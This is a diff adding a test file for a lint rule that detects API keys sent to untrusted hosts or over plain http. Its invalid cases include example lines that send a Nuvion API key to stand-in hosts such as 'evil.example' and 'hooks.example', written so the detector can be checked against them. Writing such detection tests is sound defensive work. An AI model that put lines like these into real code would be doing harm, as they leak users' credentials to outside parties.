@@ -1,0 +1,23 @@
+import { testRule } from '../scenarios/test-rule.ts'
+
+testRule('no-key-to-untrusted-host', {
+  valid: [
+    "fetch('https://api.nuvion.co/x', { headers: { Authorization: `Bearer ${nuvionKey}` } })",
+    "fetch('https://api.nuvion.dev/x', { headers: { Authorization: `Bearer ${process.env.NUVION_API_KEY}` } })",
+    "fetch('http://localhost:3000', { headers: { Authorization: `Bearer ${nuvionKey}` } })",
+    "fetch('/api/nuvion', { headers: { Authorization: `Bearer ${token}` } })",
+    { code: "fetch('https://proxy.example.com', { headers: { Authorization: nuvionKey } })", options: { hosts: ['example.com'] } },
+    { code: "fetch('https://proxy.example.com', { headers: { Authorization: nuvionKey } })", settings: { hosts: ['proxy.example.com'] } },
+    "fetch('https://api.example.com', { headers: { Authorization: `Bearer ${apiKey}` } }) // nuvion elsewhere",
+    "fetch(url, { headers: { Authorization: nuvionKey } })",
+  ],
+  invalid: [
+    { code: "fetch('https://evil.example', { headers: { Authorization: nuvionKey } })", errors: ['foreign:1'] },
+    { code: "axios.post('https://hooks.example/x', {}, { headers: { 'x-key': process.env.NUVION_API_KEY } })", errors: ['foreign:1'] },
+    {
+      code: "fetch('http://api.nuvion.co/x', { headers: { Authorization: `Bearer ${nuvionKey}` } })",
+      errors: ['plain:1'],
+      suggestions: [[{ messageId: 'https', output: "fetch('https://api.nuvion.co/x', { headers: { Authorization: `Bearer ${nuvionKey}` } })" }]],
+    },
+  ],
+})
